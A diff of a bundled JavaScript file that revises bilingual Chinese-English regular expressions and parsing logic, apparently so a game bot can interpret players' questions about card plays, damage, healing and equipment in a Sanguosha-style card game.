+const N = "([一二两三四五六七八九十俩仨]|\\d{1,2})";
+const UNIT6 = "(?:次|把|回(?!合)|张|刀|下|个|点|滴|格|发|口|趟)";
+const N_EN = "(\\d{1,2}|one|two|three|four|five|six|seven|eight|once|twice|thrice)";
+const BESIDE4 = new RegExp(`(?:[有是够才满]|数着|记得|不止|超过)(?:了|着|过|得)?${N}${UNIT6}(?!号)`);
+const CLAIMED = new RegExp(
+	`(?<![几第这那上下还剩])${N}(?:(?<=[俩仨])|${UNIT6}了?血?)(?:了?[吧不]|是吧|对吧|没错吧|来着|了?\\?)`
+);
+const BESIDE_EN = new RegExp(
+	`\\b(?:i count(?:ed)?|was (?:it|that)|more than|at least|over|feels like|like|only|thought|,) ?${N_EN}\\b(?! (?:hp|health|hearts?|left|cards))|[,.] ${N_EN}(?: times)?\\?*$`
+);
+const WORDS4 = {
+	once: 1,
+	twice: 2,
+	thrice: 3,
+	俩: 2,
+	仨: 3
+};
+function saidNumber(text) {
+	const claim = CLAIMED.exec(text);
+	const found = claim ?? BESIDE4.exec(text) ?? BESIDE_EN.exec(text);
+	const word = found?.slice(1).find((one) => one !== void 0);
+	if (word === void 0) return null;
+	return { n: WORDS4[word] ?? numberIn2(word), claimed: claim !== null };
+}
+
+// src/chatter/moves/slots.ts
 const TO_ALL = /大家|所有人|全场|每个?人|\b(?:every(?:one|body)|all of us)\b/;
-const WHO_DONE = /(?<![找招跟惹怪])(?:谁|哪个|哪位|几号)(?![都也敢家]).{0,9}(?:的|了|过|来着)|(?:的|了|过)都?[是有]?(?:谁|哪个|哪位|几号)|\b(?:who(?:m|se)?|which (?:one )?of (?:you|u|us|th?em))\b.{0,24}\b(?:did|was|were|has|have|put|hit|swung|hurt|got|kept|went|took|gave|shot|struck|threw|drew|stole|(?<!m )lost|lose|dealt|ate|that|\w+ed)\b|\bwhose doing\b|\bdid (?:(?:that|the|those) .{1,24}\b)?(?:anyone|anybody|somebody)\b|\bany(?:one|body)(?: else)? (?:get |got )?(?:hurt|hit|damaged)\b/;
-const MEANS = /(?:啥|什么)(?:玩意儿?|东西|牌|招|技能)?(?:打|砍|弄|伤|烧|干)的|(?:用|拿)(?:的)?(?:啥|什么)(?:打|砍|弄|伤|烧)?|死在(?:哪|什么|啥)|\bwhat (?:did|was) .{1,30} with\b|\bw(?:ith|\/) what\b|\bwhat (?:actually |did |really )*(?:hurt|hit|killed?|got|finished) (?!at)/;
-const WHETHER2 = /有(?:没有)?(?:人|谁).{0,14}[过了]|[过了][^,.!?]{0,6}(?:没有?|吗|么)[啊呀呢了]*$|(?:是不是|有没有)[^,]{0,12}[过了]|是不是没(?:事|掉|中|挨)|谁[^的]{0,8}没$|^(?:so |and |wait |ok )*(?:has|have|did|was|were) |\b(?:ha[sd]|have|did) (?:any(?:one|body)|he|she|they)\b|\bany of (?:them|em|those|you)\b|\bhow(?:'?d| did) .{1,30} (?:wriggle|get|slip|escape)|\bever\b|\b(?:did|has|was)n'?t (?:he|she|they|it|i)\b/;
-const WHEN2 = /(?:什么|啥)时候|几时|上次.{0,8}(?:是|几)|\b(?:when|last time|how long (?:since|ago))\b/;
-const WITHIN_ONE = /(?<!上)一(?:个)?回合|刚(?=给|才?[打砍])|\bjust\b(?! the)|\bin (?:one|a single) turn\b/;
-const TO_TELL = /^们?.?[算数查捋看说统报讲理]/;
-const OTHER_THAN = /(?:除了?|除去|抛开)$|\b(?:besides|except(?: for)?|apart from|other than) (?:the )?$/;
-const EVERYBODY2 = /都(?:是|有)?(?:谁|哪)|谁都|哪些|哪几|分别|捋|\b(?:who|whom) all\b/;
+const DONE_TO_WHOM = /[贴挂砍打杀射捅顺拆偷抢救奶喂送烧连锁懈挡劈][到给在了]*$/;
 const OBJECT_ZH = /(?:给了?|[对冲朝向往盯]着?|把|将|替|帮|从|针对|(?<![的那张])[乐兵]了?)$/;
 const AGENT_ZH = /(?:被|让|叫|由)$/;
 const OBJECT_EN2 = /\b(?:on|(?:in)?to|at|for|off|(?<=(?:took?|taken?|st[eo]le?n?|cards?|snatch\w*|collect\w*) .{0,12})from|against|after|keep|kept|hurt|hit|kill)(?: the)? $/;
@@ -33258,7 +33377,7 @@ function slotsBeside(text, mentions) {
 		return OBJECT_ZH.test(before) || OBJECT_EN2.test(before) || BEARS.test(text.slice(end));
 	};
 	const isBehindDeed = ({ start, end }) => (/[^是]的都?$/.test(text.slice(0, start)) || /[让叫令]$/.test(text.slice(0, start)) && /^[摸抽拿得回]/.test(text.slice(end))) && all.some(({ seat, end: at }) => seat !== null && at < start) && !all.some(({ end: at }) => text.slice(at, start) === "的");
-	const asked = who === void 0 ? void 0 : isObject(who) || BEFELL.test(text.slice(who.end)) || isBehindDeed(who) ? "to" : "by";
+	const asked = who === void 0 ? void 0 : isObject(who) || DONE_TO_WHOM.test(text.slice(0, who.start)) || BEFELL.test(text.slice(who.end)) || isBehindDeed(who) ? "to" : "by";
 	const named = all.filter(({ kind, seat }) => kind !== "who" && seat !== null);
 	const seats = (of) => [...new Set(of.flatMap(({ seat }) => seat ?? []))];
 	if (asked === "by") {
@@ -33276,16 +33395,64 @@ const doerOf = (mentions) => {
 	const by = mentions[0]?.seat ?? null;
 	return by === null ? {} : { by };
 };
+
+// src/chatter/moves/of-record.ts
+const DELAYED2 = new Set(["lebu", "bingliang", "shandian"]);
+const YET_TO_COME2 = /最少|打算|准备|[攥捏揣]|下(?:个|一个?)?(?:回合|轮)|(?<![没])(?:要|想(?!知道|问)|该|能(?!告诉)|(?<!一)会(?!儿)|可以)|如果|手里|(?:还|就|只)剩|还有(?:几|多少)|\b(?:should|can|could|will|would|wanna|wants?|gonna|going to|need|if|next|left|with (?:me|us)|holds?|holding|hiding|sitting on my)\b|\b(?:u|you|ya) got$/;
+const HOW_MANY_ZH = /不止[一两二]|(?<![好没前后这那])(?:几|多少)(?!号|(?<!了几)轮|回合|成|岁|反|忠|内|位|个意思)/;
+const HOW_MANY_EN = /\bhow (?:many|much|often)\b|\b(?:total|count|in all|altogether|add up|just (?:the )?(?:once|one|twice))\b|\b\w+s (?:thrown|played|used) (?:this game|so far|till now|already)\b/;
+const POINTS = /(?:几|多少)(?:点|滴|格|口)?(?:血|伤)|(?:几|多少)[点滴格]|\b(?:hp|health|damage|dmg|dealt)\b|\bhow much\b(?! (?:longer|time))/;
+const HEADS = /(?:几|多少)(?:个(?=人|$|[,.!?])|人|位)|\bhow many (?:people|ppl|players|others|folks|of (?:us|you|u|them))\b/;
+const EATEN = /[吃用喝出放][掉了过]*(?:几|多少)个(?!人)/;
+const BEFORE2 = /再之?前|在?那之前|\bbefore (?:that|then)\b/;
+const FIRST4 = /头一个|第一[个位]|最[先早]|首先|谁先(?!手)|\bfirst\b/;
+const MOST4 = /最[多狠勤凶高]|谁[^,]{0,8}[多狠]$|\b(?:most|more(?! than))\b/;
+const LAID2 = /判定[牌区]|[挂贴顶]着(?![什啥])|\bdelayed\b|\bin front of\b|\b(?:lying|sitting) there\b|头上(?:还|都)?[顶贴挂压有](?!人)|\bjudge?ments? (?:card|zone|area)s?\b/;
+const ANYBODY3 = /[?吗么]|是不是|还[挂贴顶]|\b(?:still|which|whose)\b|谁|几个|有(?:没有)?人|有没有|\b(?:who|any(?:one|body)|how many)\b/;
+const IN_TURN = /^(?:那|这|的)?(?:一?个)?回合(?:里|内|中|时|的时候|开始|初)|^'s turn\b/;
+const BARE3 = /多少(?=$|[,.!?啊呀呢了下]|血)/;
+const CARDS_COUNTED = /(?:几|多少)(?:张|件|样|个)|牌|\bcards?\b/;
+const TIMES = /(?:几|多少)(?:次|下|回|把|趟|遍)|(?<=了)几轮|\b(?:times|often|hits?)\b/;
+const BLADES = /(?:几|多少)刀/;
+const LAYS = /[乐兵].*[贴挂上放]过|[贴挂]过.{0,3}[乐兵]/;
+const GROUP_CARDS = /\baoes?\b|群(?:伤|攻)|范围(?:牌|伤)/;
+const LIFT = /解|拆|懈|化|揭|摘|挡|顶|\b(?:wriggl|escap|get rid|lift|remov|clear|nullif|null|negat|cancel|block|dismantl)\w*|\bt(?:ook|ake) .{0,20}off\b/;
+const CANCEL = /懈|挡|顶(?:了|的|掉)|抵消|[搅弄整]黄|坏(?:了|掉)?.{0,4}好事|\b(?:nullif|negat|counter|block|cancel|foil|ruin|fizzl)\w*|\b(?:ate|stopped)\b|\bnull(?:ed|s)?\b/;
+const SAVE = /[救捞]|拉(?:回|起)|续(?:了|的|上|命)|喂|\b(?:sav|rescu|reviv)\w*|\bke(?:pt|ep) .{1,24} (?:alive|up|going)|\bpulled .{1,24} (?:up|back|through)/;
+const HEALS = /(?:(?<![几这那上两一二三第头每\d])回|[加奶吸])(?:了|过|上|满|血|多少|几)|涨血|\b(?:heal|recover|regain|gain|restor)\w*|\bgot (?:some |the |any )?(?:hp|health)\b/;
+const KILLS = /人头|[打杀收干弄][死掉走]?(?:了|过)?(?:几|多少)个|\bkill\w*/;
+const TAKES2 = /动(?=.{0,4}(?:装备|武器|防具|马))|拆|顺|(?:[拿偷抽牵丢]|没)(?:走|掉|了)|摸[走掉]|弃|\b(?:st[eo]le?n?|los[et]|snatch|swip|discard|dismantl|grab|rob)\w*\b|\bt(?:ook|aken?)\b/;
+const GOT = /(?:白[拿得]|摸|得|收)(?:到|了|过)*(?:(?:几|多少)张|的?牌)|\b(?:dr[ae]wn?|received?|collect\w*)\b/;
+const GIVES3 = /[送塞递]|\bslip(?:ped)?\b|给(?!.*的$).{0,8}(?:几|多少)张|\b(?:gave|giv(?:e|en)|hand(?:ed)?|pass(?:ed)?|fed)\b/;
+const HURTS2 = /[吃挨].{0,5}的[刀打揍杀]|[打砍捅剁敲劈锤揍射烧伤电毒削扣捶掉挨丢费损]|传导|[碰动](?:过|了)|[少掉]的?那?[一两二三]?[点滴格]|laid a (?:finger|hand)|\b(?:hit|bled|swung|touch|hurt|d(?:a?m|ama)g|attack|slash|struck|strik|burn|cost|deal|los[et]|shot|zap|smack)\w*\b|\bt(?:ook|aken?)\b|\bw(?:ent|as going) (?:at|for|after)\b/;
+const WHO_DONE = /(?<![找招跟惹怪])(?:谁|哪个|哪位|几号)(?![都也敢家]).{0,9}(?:的|了|过|来着)|(?:的|了|过)都?[是有]?(?:谁|哪个|哪位|几号)|\b(?:who(?:m|se(?! side))?|which (?:one )?of (?:you|u|us|th?em))\b.{0,24}\b(?:did|was|were|has|have|put|hit|swung|hurt|got|kept|went|took|gave|shot|struck|threw|drew|stole|(?<!m )lost|lose|dealt|ate|that|\w+ed)\b|\bwhose doing\b|\bdid (?:(?:that|the|those) .{1,24}\b)?(?:anyone|anybody|somebody)\b|\bany(?:one|body)(?: else)? (?:get |got )?(?:hurt|hit|damaged)\b/;
+const MEANS2 = /(?:啥|什么)(?:玩意儿?|东西|牌|招|技能)?(?:打|砍|弄|伤|烧|干)的|(?:用|拿)(?:的)?(?:啥|什么)(?:打|砍|弄|伤|烧)?|死在(?:哪|什么|啥)|\bwhat (?:did|was) .{1,30} with\b|\bw(?:ith|\/) what\b|\bwhat (?:actually |did |really )*(?:hurt|hit|killed?|got|finished) (?!at)/;
+const WHETHER2 = /有(?:没有)?(?:人|谁).{0,14}[过了]|[过了][^,.!?]{0,6}(?:没有?|吗|(?<![什怎这那])么)[啊呀呢了]*$|(?:是不是|有没有)[^,]{0,12}[过了]|是不是没(?:事|掉|中|挨)|谁[^的]{0,8}没$|^(?:so |and |wait |ok )*(?:has|have|did|was|were) |\b(?:ha[sd]|have|did) (?:any(?:one|body)|he|she|they)\b|\bany of (?:them|em|those|you)\b|\bhow(?:'?d| did) .{1,30} (?:wriggle|get|slip|escape)|\bever\b|\b(?:did|has|was)n'?t (?:he|she|they|it|i)\b/;
+const WHEN2 = /(?:什么|啥)时候|几时|上次.{0,8}(?:是|几)|(?:^|\b(?:so|and|but|wait|since) )when\b|\bwhen (?:did|was|were|has)\b|\b(?:last time|how long (?:since|ago))\b/;
+const WITHIN_ONE = /(?<!上)一(?:个)?回合|刚(?=给|才?[打砍])|\bjust\b(?! the)|\bin (?:one|a single) turn\b/;
+const BOTH = /谁.{1,8}(?:给|对|在|[贴砍打连烧冲射杀拆顺]了?)谁|\bwho\b.{3,40}\b(?:on|to|at|from) who(?:m)?\b|\bwho \w+ who(?:m)?\b/;
+const KEEPS = /顺|偷|抢|牵|摸走|\b(?:st[eo]le?n?|snatch|swip|nick|rob)/;
+const BREAKS = /拆|弃|\b(?:dismantl|discard|broke|destroy)/;
+const SAID_BY_VERB = new Set([...DELAYED2, "juedou", "tiesuo"]);
+const USED = /[了过的放出用甩扔丢]|[一总]共|全场|\b(?:used|played|thrown?|total|all|so far|been|\w+ed|on|at)\b/;
+const FIRE = /[一那]把火/;
+const FED = /[喂塞递送][^桃]{0,4}(?:几|多少)张/;
+const KILLS_ARE_STRIKES = /\bkills?\b/;
+const TO_TELL = /^们?.?[算数查捋看说统报讲理]/;
+const OTHER_THAN = /(?:除了?|除去|抛开)$|\b(?:besides|except(?: for)?|apart from|other than) (?:the )?$/;
+const EVERYBODY2 = /都(?:是|有|[\u3400-\u9fff]{1,2}[过了])?(?:谁|哪)|谁都|哪些|哪几|分别|捋|\b(?:who|whom) all\b/;
 function whatOf(text, cards, counts) {
 	const laid = cards.some((card) => DELAYED2.has(card));
 	if (laid && LIFT.test(text)) return "lift";
-	if (GOT.test(text) && CARDS_COUNTED.test(text)) return "give";
+	if (GOT.test(text) && CARDS_COUNTED.test(text) || FED.test(text)) return "give";
 	if (cards.includes("wuxie") || CANCEL.test(text)) return "wuxie";
 	if (SAVE.test(text) || HEALS.test(text) && !/[回]合/.test(text.replace(/回合/g, ""))) return "heal";
+	if (cards.includes("tiesuo") && /传[了给到导]/.test(text)) return "hurt";
 	if (cards.length > 0 && !counts && /传导|掉了?血|受伤|\b(?:hp|health|damage|hurt)\b/.test(text)) return "hurt";
 	if (KILLS.test(text) && cards.every((card) => card === "sha")) return "kill";
 	if (cards.length > 0) return cards.every((card) => GEAR.has(card)) ? "take" : "use";
-	if (TAKES2.test(text) && CARDS_COUNTED.test(text)) return "take";
+	if (TAKES2.test(text) && (CARDS_COUNTED.test(text) || counts && (KEEPS.test(text) || BREAKS.test(text))))
+		return "take";
 	if (GIVES3.test(text) && CARDS_COUNTED.test(text)) return "give";
 	return HURTS2.test(text) ? "hurt" : !counts && TAKES2.test(text) ? "take" : null;
 }
@@ -33294,19 +33461,20 @@ function rarest(named) {
 	const rare = named.filter((card) => card !== "sha" && card !== "shan");
 	return [...new Set(rare.length > 0 ? rare : named)];
 }
-const mayAskRecord = (text) => [HOW_MANY_ZH, HOW_MANY_EN, MEANS, WHO_DONE, WHETHER2, WHEN2, MOST4, FIRST4, LAID2].some((one) => one.test(text));
+const mayAskRecord = (text) => [HOW_MANY_ZH, HOW_MANY_EN, MEANS2, WHO_DONE, WHETHER2, WHEN2, MOST4, FIRST4, LAID2].some((one) => one.test(text)) || saidNumber(text)?.claimed === true;
 function ofRecord(text, mentions, scene) {
 	if (YET_TO_COME2.test(text)) return null;
 	const named = [...cardsIn(text), ...skillsIn(text, scene)].filter(
 		(card) => !mentions.some(({ start, end }) => card.start >= start && card.end <= end)
 	);
-	const many = HOW_MANY_ZH.test(text) || HOW_MANY_EN.test(text);
+	const said = saidNumber(text);
+	const many = HOW_MANY_ZH.test(text) || HOW_MANY_EN.test(text) || said?.claimed === true;
 	const laid = named.filter(({ card }) => DELAYED2.has(card)).map(({ card }) => card);
 	if (LAID2.test(text) && ANYBODY3.test(text) && !WHO_DID_LAY.test(text) && !LIFT.test(text))
 		return {
 			wants: "victims",
 			what: "laid",
-			to: mentions.flatMap(({ kind, seat, called }) => kind !== "self" && !called && seat !== null ? [seat] : []),
+			to: mentions.flatMap(({ kind: kind2, seat, called }) => kind2 !== "self" && !called && seat !== null ? [seat] : []),
 			cards: laid,
 			when: null,
 			all: true
@@ -33319,10 +33487,10 @@ function ofRecord(text, mentions, scene) {
 		(one) => one !== turn && !except.includes(one) && !/\bof $/.test(before(one)) && !(TO_TELL.test(text.slice(one.end)) && /[帮给跟替]$/.test(before(one)))
 	);
 	const deeds = deedsIn(text, people, "open", skillsIn(text, scene));
-	const whos = mentions.filter(({ kind }) => kind === "who").length;
+	const whos = mentions.filter(({ kind: kind2 }) => kind2 === "who").length;
 	const who = whos > 0 || /\bwhich (?:one )?of\b/.test(text);
 	const asksWho = who && (WHO_DONE.test(text) || rank !== void 0 && whos < 2 && deeds.length + named.length > 0);
-	const asksMeans = !many && MEANS.test(text);
+	const asksMeans = !many && MEANS2.test(text);
 	const isWhen = WHEN2.test(text);
 	const whether = !many && !asksMeans && !asksWho && (isWhen || WHETHER2.test(text));
 	if (!many && !asksMeans && !asksWho && !whether) return null;
@@ -33330,11 +33498,15 @@ function ofRecord(text, mentions, scene) {
 	const all = EVERYBODY2.test(text);
 	const points = many && (POINTS.test(text) || BARE3.test(text)) && !/\bcards\b/.test(text);
 	const blows = BLADES.test(text) || (all || rank !== void 0 || many && !points) && deeds.some(({ verb }) => verb === "strike");
-	const cards = blows && named.every(({ card }) => card === "sha" || card === "jiu") ? ["sha"] : GROUP_CARDS.test(text) ? [...FOR_ALL] : named.length === 0 && LAYS.test(text) ? [...DELAYED2] : rarest(named.map(({ card }) => card === "jiu" && STRUCK.test(text) ? "sha" : card));
-	const what = asksMeans ? "hurt" : whatOf(text, cards, many);
+	const cards = blows && named.every(({ card }) => card === "sha" || card === "jiu") ? ["sha"] : GROUP_CARDS.test(text) ? [...FOR_ALL] : named.length === 0 && LAYS.test(text) ? [...DELAYED2] : named.length === 0 && !whether ? FIRE.test(text) ? ["huogong"] : deeds.flatMap(({ card }) => card !== null && SAID_BY_VERB.has(card) ? [card] : []) : rarest(named.map(({ card }) => card === "jiu" && STRUCK.test(text) ? "sha" : card));
+	const slots = slotsOf2(text, people, deeds);
+	const kind = asksMeans ? "hurt" : whatOf(text, cards, many);
+	const struck = kind === "kill" && KILLS_ARE_STRIKES.test(text) && slots.to.some((seat) => scene.table.bySeat.get(seat)?.alive === true);
+	const what = struck ? "use" : kind;
+	if (struck) cards.splice(0, cards.length, "sha");
 	if (what === null) return null;
 	const means = what === "hurt" ? cards.filter((card) => card !== "tao" && card !== "shan") : cards;
-	const slots = slotsOf2(text, people, deeds);
+	if (many && what === "use" && slots.to.length === 0 && slots.by === void 0 && !USED.test(text)) return null;
 	if (whether && !who && !FOLLOWS2.test(text) && deeds.length + cards.length + slots.to.length === 0 && slots.by === void 0)
 		return null;
 	const when = WITHIN_ONE.test(text) ? "own_turn" : whenIn(text);
@@ -33346,29 +33518,33 @@ function ofRecord(text, mentions, scene) {
 		when,
 		all,
 		...isWhen ? { timed: true } : {},
+		...what === "take" && KEEPS.test(text) !== BREAKS.test(text) ? { way: KEEPS.test(text) ? "steal" : "discard" } : {},
+		...said ? { said: said.n, ...said.claimed ? { claimed: true } : {} } : {},
 		...rank === void 0 ? {} : { rank },
 		...turn?.seat == null ? {} : { turnOf: turn.seat },
 		...except.length > 0 ? { except: except.flatMap(({ seat }) => seat ?? []) } : {}
 	};
 	if (asksMeans) return { ...base, cards: [], wants: "means", ...toWhom(slots) };
 	const hurts = what === "use" && cards.some((card) => FOR_ALL.has(card) || card === "shandian") ? { what: "hurt" } : {};
+	if (heads && FIRE.test(text)) return { ...base, what: "hurt", wants: "victims", when: "own_turn", ...toWhom(slots) };
 	if (heads && what !== "kill") {
-		const befell = slots.asked === "to" || slots.asked === void 0 && slots.to.length === 0 && (slots.by !== void 0 || "what" in hurts || BEARS.test(text.slice(text.search(HEADS) + 2)));
+		const befell = slots.asked === "to" || slots.asked === void 0 && slots.to.length === 0 && (slots.by !== void 0 || "what" in hurts || cards.includes("tiesuo") || BEARS.test(text.slice(text.search(HEADS) + 2)));
 		return { ...base, ...befell ? hurts : {}, wants: befell ? "victims" : "doers", ...toWhom(slots) };
 	}
 	if (many) {
 		const health = points && (HURTS2.test(text) || HEALS.test(text) || SAVE.test(text));
-		const kind = health ? HEALS.test(text.replace(/回合/g, "")) ? "heal" : "hurt" : what;
-		if (!health && kind === "hurt" && !TIMES.test(text)) return null;
+		const counted = health ? HEALS.test(text.replace(/回合/g, "")) ? "heal" : "hurt" : what;
+		if (!health && counted === "hurt" && !TIMES.test(text)) return null;
 		const { by, ...rest } = slots;
-		const self = slots.to.length === 0 && by !== void 0 && (kind === "give" ? GOT.test(text) : kind === "heal" && (health || cards.length === 0));
+		const self = slots.to.length === 0 && by !== void 0 && (counted === "give" ? GOT.test(text) : counted === "heal" && (health || cards.length === 0));
 		return {
 			...base,
-			what: kind,
+			what: counted,
 			wants: health ? "points" : "times",
 			...self ? { to: [by] } : toWhom({ ...rest, ...by === void 0 ? {} : { by } })
 		};
 	}
+	if (asksWho && BOTH.test(text)) return { ...base, wants: "pairs", to: [] };
 	const whom = slots.asked === "to" || "what" in hurts && /掉了?血/.test(text);
 	return {
 		...base,
@@ -33394,9 +33570,11 @@ const HOW_MUCH = /几|多少|\b(?:how (?:much|many)|any)\b|\bwhat(?:'?s| is| are
 const NO_STATE = /[掉过回吃出用拿摸丢弃打砍杀拆先收救盯留动顺偷抢塞递]|(?<!剩)了[^,.!?]{0,5}(?:几|多少)|最后|\b(?:should|could|gonna|los[et]|bled|times|collecting|did|gives?|dealt|used|took|got hit|hit|kill|target|healed|stole|gave|handed|passed|given|drew|played|done)\b/;
 const HEADS2 = /\bhow many (?:people|ppl|players|of)\b|几张(?:桃|闪|杀|无懈|酒)/;
 const CHAINED = /(?:谁|哪[些几]).{0,8}[连锁拴绑捆横串]着|[连锁拴绑捆横串]着的?(?:都?[是有])?(?:谁|哪|吗|没$|么)|\b(?:who|am i|is|are|anyone).{0,20}\b(?:chained|linked)\b(?! (?:by|me|him|her|them|the|seat))/;
-const WEARS = /(?:装备|身上|穿|装|戴)(?:了|着|的|还|都|现在|挂)*(?:有|是|剩)?(?:啥|什么|哪些|几件)(?:装备|武器|防具|牌|家伙)?(?=$|[,.!?啊呀呢了来])|有(?:啥|什么|哪些|几件)(?:装备|武器|防具)|\bwear(?:ing)? what\b|\bwhat(?:'?s|'re)? .{1,30}\b(?:wear(?:ing)?|equip(?:ped|s)?|put on|have on|got on|for (?:a |an )?(?:weapon|armou?r|horse))\b|\b(?:his|her|their|my|your|[a-z]+'s) (?:gear|equip\w*)[?.! ]*$|\bwhat (?:gear|equipment|weapon|armou?r|horses?) .{1,20}\b(?:have|has|got|use|using)\b/;
+const WEARS = /有(?:没有)?(?:装备|防具|武器)(?:吗|么|没有?)?[啊呀?]*$|(?:装备|身上|穿|装|戴)(?:了|着|的|还|都|现在|挂)*(?:有|是|剩)?(?:啥|什么|哪些|几件)(?:装备|武器|防具|牌|家伙)?(?=$|[,.!?啊呀呢了来])|有(?:啥|什么|哪些|几件)(?:装备|武器|防具)|\bwear(?:ing)? what\b|\bwhat(?:'?s|'re)? .{1,30}\b(?:wear(?:ing)?|equip(?:ped|s)?|put on|have on|got on|for (?:a |an )?(?:weapon|armou?r|horse))\b|\b(?:his|her|their|my|your|[a-z]+'s) (?:gear|equip\w*)[?.! ]*$|\bwhat (?:gear|equipment|weapon|armou?r|horses?) .{1,20}\b(?:have|has|got|use|using)\b/;
 const GEARED = /(?=.*(?:谁|哪[几些个]|几[家位])).*(?:装备|武器|防具|坐骑)|\b(?:who|how many)\b.{0,20}\b(?:gear|equip|weapon|armou?r|horse|riding)/;
 const HAS = /着|在|身上|\b(?:has|have|got|wear(?:s|ing)?|riding|holding|with)\b/;
+const ANYBODY4 = /有(?:没有)?(?:人|谁)|\bany(?:one|body)\b/;
+const OWNS = /有没有(?!人)|[穿戴装]没[穿戴装]|(?<!没)有.{1,8}(?:吗|么|没有?)(?=$|[,.!?啊呀])|^(?:so |and |wait )*(?:does|do|is|are|has|have) (?!any(?:one|body)).{1,24}\b(?:have|has|got|wear(?:s|ing)?|carry\w*|on|equip\w*)\b/;
 const STILL = /还(?:在|有(?!人|谁)|骑|戴|穿|拿|装)|没丢|丢没|在不在|\bstill\b(?! got (?:you|u|me)\b)|\b(?:what (?:became|happened)|where(?:'?s| is| are|'?d| did))\b/;
 const GONE2 = /怎么|咋|谁[^着]{0,6}(?:[拆顺抢偷弃]|拿(?!着))|[拆顺抢偷弃]过|\b(?:how|took|stole|stolen|snatched|dismantled)\b/;
 const BOARD2 = /家底|全部家当|\bhow(?:'?s| is) (?!it\b|every|this|that|your).{1,20} (?:doing|looking|holding up)\b|\b(?:whole|full) board\b|\bstuff on the table\b|\bhp,? (?:and )?hands?\b/;
@@ -33404,7 +33582,8 @@ const EACH = /[报看数]一?下?(?:血|手牌)|(?:手牌|血)数?.{0,4}(?:都�
 const SUMMED_UP = /(?:加|合)(?:起来|一[起块])|一共|总共|\b(?:total|in all|altogether)\b/;
 const PUT_CASE = /如果|要是|先[^连]|\b(?:if|should|first)\b/;
 const sides = (text) => text.split(/[,.!?;，。！？；]|(?<=[\u3400-\u9fff]) +(?=[\u3400-\u9fff])/);
-const namesPiece = (one) => one.trim().length < 6 || gearIn(one, new Set()).length > 0 || cardsIn(one).some(({ card }) => GEAR.has(card));
+const hasPiece = (one) => gearIn(one, new Set()).length > 0 || cardsIn(one).some(({ card }) => GEAR.has(card));
+const namesPiece = (one) => one.trim().length < 6 || hasPiece(one);
 const ASKS8 = /[?吧吗]|是不是/;
 function tableAsked(text) {
 	const gear = gearIn(text, new Set());
@@ -33413,8 +33592,11 @@ function tableAsked(text) {
 	const pieces = named.length > 0 ? named : gear;
 	const whos = (text.match(WHO6) ?? []).length;
 	if (pieces.length > 0 && !GONE2.test(text)) {
-		if (sides(text).some((one) => STILL.test(one) && namesPiece(one))) return { of: "gear", how: "of", pieces };
-		if (named.length > 0 && whos === 1 && HAS.test(text)) return { of: "gear", how: "who", pieces };
+		if (sides(text).some((one) => STILL.test(one) && namesPiece(one) || OWNS.test(one.trim()) && hasPiece(one)))
+			return { of: "gear", how: "of", pieces };
+		const asksWho = (one) => (WHO6.lastIndex = 0, WHO6.test(one)) || ANYBODY4.test(one);
+		if (named.length > 0 && whos === 1 && HAS.test(text) || sides(text).some((one) => /[穿戴装骑]/.test(one) || HAS.test(one) ? hasPiece(one) && asksWho(one) : false))
+			return { of: "gear", how: "who", pieces };
 	}
 	if (BOARD2.test(text)) return { of: "board", how: "of", pieces: [] };
 	const most = MOST5.test(text);
@@ -33435,12 +33617,13 @@ function tableAsked(text) {
 const UNREAD = new Set(["unclear", "topic"]);
 const isOfTable = (asked, mentions) => asked !== null && (asked.how !== "of" || asked.of === "gear" || asked.of === "board" || mentions.some(({ seat }) => seat !== null));
 const isUnread = ({ act, facts = [] }, mentions) => UNREAD.has(act) || act === "report" && facts.length > 0 && facts.every(({ verdict }) => verdict === "false") && mentions.some(({ kind }) => kind === "who");
-const asksOfTable = (text, mentions, scene) => isOfTable(tableAsked(text), mentions) || mayAskRecord(text) && ofRecord(text, mentions, scene) !== null;
+const asksOfTable = (text, mentions, scene) => SHOWN.test(text) || isOfTable(tableAsked(text), mentions) || mayAskRecord(text) && ofRecord(text, mentions, scene) !== null;
 function movesIn(line, moment) {
 	const { moves, mentions, whole, dark } = heardIn(line, moment);
-	if (asksOfRules(line.verbatim) || asksPlainly(line.verbatim)) return [{ act: "ask_rule", span: whole.span }];
+	const told = moves.some(({ facts = [] }) => facts.some(({ verdict, denied }) => verdict === "true" && !denied));
+	if (asksOfRules(line.verbatim, told) || asksPlainly(line.verbatim)) return [{ act: "ask_rule", span: whole.span }];
 	const ofTable = asksOfTable(line.verbatim, mentions, moment.scene);
-	const life = ofTable && mentions.some(({ kind }) => kind === "seat" || kind === "who") ? null : lifeByWording({ text: line.verbatim, mentions, moves, confided: moment.confided ?? null });
+	const life = ofTable && (SHOWN.test(line.verbatim) || mentions.some(({ kind }) => kind === "seat" || kind === "who")) ? null : lifeByWording({ text: line.verbatim, mentions, moves, confided: moment.confided ?? null });
 	const { from, hearer } = moment;
 	const you = mentions.find(({ called, seat }) => called && seat !== from)?.seat ?? hearer;
 	if (life) return [ofLife(life, { from, you, span: whole.span })];
@@ -34125,6 +34308,7 @@ const TROUBLES = {
 	...WORK_TROUBLES,
 	...DAILY_TROUBLES
 };
+const ownWords2 = (matter) => matter === ANY_MATTER ? void 0 : TROUBLES[matter];
 const troubleWords = (matter) => TROUBLES[matter] ?? TROUBLES[ANY_MATTER];
 const withKin = (text, whose, language) => text.replace(/\{kin\}/g, whose?.named[language] ?? { zh: "家里人", en: "your family" }[language]);
 function namedTrouble(heard, language) {
@@ -34152,15 +34336,15 @@ function heroName(scene, seat, language) {
 	const latin = [...scene.called.byName].find(
 		([words, of]) => of === seat && /^(?!lady )[a-z]+ [a-z]+$/.test(words) && words.match(/[aeiouv]+/g)?.length === name.length
 	)?.[0];
-	return language === "zh" ? name : latin?.replace(/\b[a-z]/g, (one) => one.toUpperCase()) ?? WORDS4.en.seat(seat);
+	return language === "zh" ? name : latin?.replace(/\b[a-z]/g, (one) => one.toUpperCase()) ?? WORDS5.en.seat(seat);
 }
-const WORDS4 = {
+const WORDS5 = {
 	zh: { me: "我", I: "我", you: "你", lord: "主公", seat: (n) => `${n}号` },
 	en: { me: "me", I: "I", you: "you", lord: "the lord", seat: (n) => `seat ${n}` }
 };
 function called(seat, parties, subject = false) {
 	const { scene, me, you, language, byNumber } = parties;
-	const words = WORDS4[language];
+	const words = WORDS5[language];
 	if (seat === me) return subject ? words.I : words.me;
 	if (seat === you) return words.you;
 	if (seat === scene.table.lord) return words.lord;
@@ -34170,7 +34354,7 @@ function ownedBy(seat, parties) {
 	if (seat === parties.me) return "my";
 	return seat === parties.you ? "your" : `${called(seat, parties)}'s`;
 }
